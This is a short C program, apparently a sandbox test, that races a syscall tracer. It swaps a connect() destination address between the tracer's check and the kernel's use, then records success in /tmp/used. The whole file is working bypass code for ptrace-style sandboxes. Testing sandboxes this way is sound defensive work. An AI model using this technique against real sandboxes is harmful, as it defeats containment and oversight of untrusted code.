/* SPDX-License-Identifier: Apache-2.0 */
/*
 * An address that is another one only between the tracer's two looks at it:
 * threads that stop all the time keep the tracer from its second look, and one
 * that reads the caller's state in /proc writes the other address when the
 * caller runs, and puts the first one back when it has stopped again.
 * /tmp/used says that the kernel took the other one.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define TRIES 12
#define FLOODS 24

static volatile struct sockaddr_in peer;
static volatile int asked, done, error;
static volatile pid_t caller;
static int sock;

static void *flood(void *arg)
{
	for (;;)
		kill(getpid(), 0);
	return arg;
}

static void *call(void *arg)
{
	pid_t self = (pid_t)syscall(SYS_gettid);

	setpriority(PRIO_PROCESS, (id_t)self, 19);
	caller = self;
	for (int i = 1; i <= TRIES; i++) {
		while (asked < i)
			usleep(50);
		error = connect(sock, (void *)&peer, sizeof(peer)) ? errno : 0;
		done = i;
	}
	return arg;
}

static void wait_for(int fd, char state, int i)
{
	char text[512], *at;

	do {
		ssize_t n = pread(fd, text, sizeof(text) - 1, 0);

		text[n > 0 ? n : 0] = '\0';
		at = strrchr(text, ')');
	} while (done < i && (!at || at[2] != state));
}

int main(void)
{
	in_addr_t good = inet_addr("127.0.0.1");
	pthread_t thread;
	char path[64];
	int fd;

	peer.sin_family = AF_INET;
	peer.sin_port = htons(9);
	peer.sin_addr.s_addr = good;
	sock = socket(AF_INET, SOCK_STREAM, 0);
	pthread_create(&thread, NULL, call, NULL);
	while (!caller)
		usleep(100);
	for (int i = 0; i < FLOODS; i++)
		pthread_create(&thread, NULL, flood, NULL);
	snprintf(path, sizeof(path), "/proc/self/task/%d/stat", caller);
	fd = open(path, O_RDONLY);
	for (int i = 1; i <= TRIES && error != ENETUNREACH; i++) {
		asked = i;
		wait_for(fd, 't', i);
		wait_for(fd, 'R', i);
		peer.sin_addr.s_addr = inet_addr("203.0.113.7");
		wait_for(fd, 't', i);
		peer.sin_addr.s_addr = good;
		while (done < i)
			;
	}
	if (error == ENETUNREACH)
		mkdir("/tmp/used", 0755);
	_exit(0);
}
